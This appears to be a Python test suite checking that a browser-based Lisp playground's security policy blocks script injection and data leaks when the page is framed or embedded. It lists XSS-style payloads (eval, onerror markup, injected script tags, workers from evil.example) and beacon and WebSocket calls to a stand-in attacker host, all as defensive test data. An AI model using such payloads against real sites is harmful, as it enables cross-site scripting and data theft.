"""The policy that is shipped: what the browser itself refuses, whatever a script of the page may try."""

from __future__ import annotations

import re
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import pytest
from playground import Playground
from playwright.sync_api import Frame, Page

from serve import Site

# Each tries to have a text run as a script; the debugger's own `evaluate` is bound by no policy, so all
# of it happens in a timer, as if a script of the page did it.
ATTEMPTS = {
    "evaluated text": "eval('window.hacked = 1')",
    "a function of a text": "new Function('window.hacked = 1')()",
    "a timer with a text": "setTimeout('window.hacked = 1')",
    "markup": "document.body.innerHTML = '<img src=x onerror=\"window.hacked = 1\">'",
    "markup beside": "document.body.insertAdjacentHTML('beforeend', '<b>b</b>')",
    "a written document": "document.write('<script>window.hacked = 1</script>')",
    "a frame of a text": "document.createElement('iframe').srcdoc = '<script>1</script>'",
    "a parsed document": "new DOMParser().parseFromString('<b>b</b>', 'text/html')",
    "a foreign worker": "new Worker('https://evil.example/worker.js')",
    "a worker of a text": "new Worker(URL.createObjectURL(new Blob(['1'])))",
    "a worker of our site": "new Worker('index.html')",
    "a service worker": "navigator.serviceWorker.register('evil.js')",
    "a rule of its own": "trustedTypes.createPolicy('default', {createScript: (text) => text})",
    "our rule again": "trustedTypes.createPolicy('lispcore-script', {createScriptURL: (url) => url})",
    "a script's text": "document.createElement('script').textContent = 'window.hacked = 1'",
    "a script's address": "document.createElement('script').src = 'https://evil.example/x.js'",
    "a handler": "document.body.setAttribute('onclick', 'window.hacked = 1')",
}
TRY = """(attempts) => new Promise((resolve) => setTimeout(async () => {
    const through = [];
    for (const [name, attempt] of Object.entries(attempts)) {
        try { if (await attempt() === 'refused') continue; through.push(name); } catch { /* refused */ }
    }
    resolve([through, window.hacked ?? null]);
}))"""


def attempts_as_script() -> str:
    parts = (f"{name!r}: () => {{ {code} }}" for name, code in ATTEMPTS.items())
    functions = ", ".join(
        part.replace("() => { navigator", "() => { return navigator") for part in parts
    )
    return f"() => ({TRY})({{{functions}}})"


def test_no_text_becomes_a_script(playground: Playground) -> None:
    """One page for all attempts; the program runs before and after them."""
    assert playground.run("(+ 1 2)")["value"] == "3"
    assert playground.page.evaluate(attempts_as_script()) == [[], None]
    assert playground.run("(+ 20 22)")["value"] == "42"


def test_what_is_shipped_says_so(dist: Path) -> None:
    html = (dist / "index.html").read_text(encoding="utf-8")
    policy = re.search(r'Security-Policy"\s+content="([^"]+)"', html)
    assert policy is not None
    directives = dict(each.strip().partition(" ")[::2] for each in policy[1].split(";"))
    assert directives["default-src"] == "'none'"
    assert "unsafe" not in directives["script-src"].replace("'wasm-unsafe-eval'", "")
    assert directives["style-src"] == "'self'"
    for closed in ("object-src", "base-uri", "form-action"):
        assert directives[closed] == "'none'"
    assert directives["require-trusted-types-for"] == "'script'"
    assert "'allow-duplicates'" not in directives["trusted-types"]
    assert not re.search(r"<script(?![^>]*\bsrc=)", html), "no script stands in the page itself"
    assert not re.search(r"\son\w+=", html)


def test_hosts_are_asked_for_the_same(dist: Path) -> None:
    html = (dist / "index.html").read_text(encoding="utf-8")
    policy = re.search(r'Security-Policy"\s+content="([^"]+)"', html)
    assert policy is not None
    reply = Site(dist).answer("GET", "/", {})
    assert reply.headers["Content-Security-Policy"].startswith(policy[1] + "; frame-ancestors ")
    assert reply.headers["Cross-Origin-Opener-Policy"] == "same-origin"
    assert reply.headers["X-Content-Type-Options"] == "nosniff"
    assert "camera=()" in reply.headers["Permissions-Policy"]


# -------------------------------------------------------------------------- frames


class Framer:
    """A page of another origin that shows ours, on a server of its own."""

    def __init__(self) -> None:
        self.shown = ""
        framer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                body = (
                    f'<!doctype html><iframe id="f" src="{framer.shown}" width="900" height="600">'
                )
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.end_headers()
                self.wfile.write(body.encode())

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)

    def show(self, page: Page, url: str) -> Frame:
        """Opens it with a page of ours in it, and returns the frame."""
        self.shown = url
        page.goto(f"http://localhost:{self.server.server_address[1]}/")
        found = page.wait_for_selector("#f").content_frame()
        assert found is not None
        return found


@pytest.fixture(scope="module")
def framer() -> Iterator[Framer]:
    found = Framer()
    thread = Thread(target=found.server.serve_forever, kwargs={"poll_interval": 0.02})
    thread.start()
    yield found
    found.server.shutdown()
    thread.join()
    found.server.server_close()


def remember_a_key(playground: Playground) -> None:
    playground.open(ready=False)
    playground.page.evaluate(
        """() => {
            localStorage.setItem("lispcore.draft", "(my own draft)");
            playground.configure("openai", {baseUrl: "https://api.openai.com/v1", key: "sk-mine"});
        }"""
    )


def test_inside_a_foreign_page_nothing_is_there(page: Page, site_url: str, framer: Framer) -> None:
    remember_a_key(Playground(page, site_url))
    inner = framer.show(page, site_url)
    inner.wait_for_selector("[data-testid=framed]")
    assert inner.evaluate("window.playground ?? null") is None
    assert inner.locator("button, input, dialog, textarea").count() == 0
    link = inner.locator("a")
    assert link.get_attribute("target") == "_blank"
    assert "noopener" in (link.get_attribute("rel") or "")


def test_embedded_it_is_editor_run_and_output(page: Page, site_url: str, framer: Framer) -> None:
    remember_a_key(Playground(page, site_url))
    inner = framer.show(page, f"{site_url}?embed")
    inner.wait_for_selector("[data-testid=status][data-state=ready]")
    shown = inner.locator("button:visible, input:visible, select:visible").all_inner_texts()
    assert [text.split("\n")[0].strip() for text in shown] == ["▶ Run", "■ Stop", "Copy", "Clear"]
    assert "my own draft" not in inner.evaluate("playground.getCode()")
    result = inner.evaluate("playground.run('(println (llm/complete \"hello\")) (+ 1 2)')")
    assert (result["value"], result["error"]) == ("3", None)


def test_embedded_it_reaches_nothing(page: Page, site_url: str, framer: Framer) -> None:
    """Neither what is kept on the device nor any other server, whatever runs there."""
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    inner = framer.show(page, f"{site_url}?embed#v1=")
    inner.wait_for_selector("[data-testid=status]")
    tried = inner.evaluate(
        """async () => {
            const through = [];
            const attempts = {
                localStorage: () => localStorage.length,
                sessionStorage: () => sessionStorage.length,
                indexedDB: () => indexedDB.open("lispcore"),
                caches: () => caches.keys(),
                credentials: () => navigator.credentials.get({}),
                fetch: () => fetch("http://127.0.0.1:9/"),
                beacon: () => { if (!navigator.sendBeacon("https://evil.example/")) throw 0; },
                socket: () => new Promise((resolve, reject) => {
                    const socket = new WebSocket("wss://evil.example/");
                    socket.onopen = resolve;
                    socket.onerror = reject;
                }),
            };
            for (const [name, attempt] of Object.entries(attempts)) {
                try { await attempt(); through.push(name); } catch { /* refused */ }
            }
            return through;
        }"""
    )
    assert set(tried) <= {"beacon"}  # it tells of no refusal
    assert [url for url in asked if "evil" in url or ":9/" in url] == []


@pytest.mark.parametrize("after", ["", "?embed"])
def test_by_itself_it_works_as_ever(closed_playground: Playground, after: str) -> None:
    closed_playground.open(after)
    assert closed_playground.run("(* 6 7)")["value"] == "42"
